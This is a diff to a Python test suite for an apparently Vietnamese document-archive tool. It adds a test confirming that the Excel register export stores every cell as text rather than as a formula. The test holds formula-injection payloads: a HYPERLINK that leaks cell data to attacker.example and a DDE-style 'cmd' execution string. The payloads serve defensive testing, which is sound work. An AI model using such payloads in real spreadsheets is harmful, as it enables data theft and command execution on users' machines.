@@ -264,3 +264,34 @@ def test_an_older_home_gets_its_audit_chain_on_open(home):
         assert verify(archive).ok
         assert archive.db.execute("SELECT count(*) FROM audit WHERE hash IS NULL").fetchone()[0] == 0
     assert tamper(home, "UPDATE documents SET subject = 'x' WHERE id = 1;")[0].startswith("01/KH-SGD&ĐT (id 1")
+
+
+# -- the register export writes text, never formulas ----------------------------------------------
+
+
+def test_register_export_writes_every_cell_as_text(tmp_path):
+    import zipfile
+
+    import openpyxl
+    from click.testing import CliRunner
+
+    from cli import cli
+
+    payloads = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]
+    agency = tmp_path / "agency.yaml"
+    agency.write_text(AGENCY.read_text(encoding="utf-8").replace("Nguyễn Mai Phương", payloads[0]), encoding="utf-8")
+    home = tmp_path / "home"
+    with Archive.init(home, agency) as archive:
+        archive.indexer = None
+        issue_document(archive, "ke_hoach", {**DATA, "recipients": payloads[1:]}, date=dt.date(2025, 1, 5),
+                       pdf=False)
+    out = tmp_path / "so.xlsx"
+    result = CliRunner().invoke(cli, ["--home", str(home), "register", "export", "--year", "2025", "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    sheet = openpyxl.load_workbook(out)["chung"]
+    assert sheet["D2"].value == payloads[0] and sheet["D2"].data_type == "s" and sheet["D2"].quotePrefix
+    assert sheet["E2"].value.startswith("- +cmd|") and sheet["E2"].data_type == "s" and sheet["E2"].quotePrefix
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    with zipfile.ZipFile(out) as package:
+        xml = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
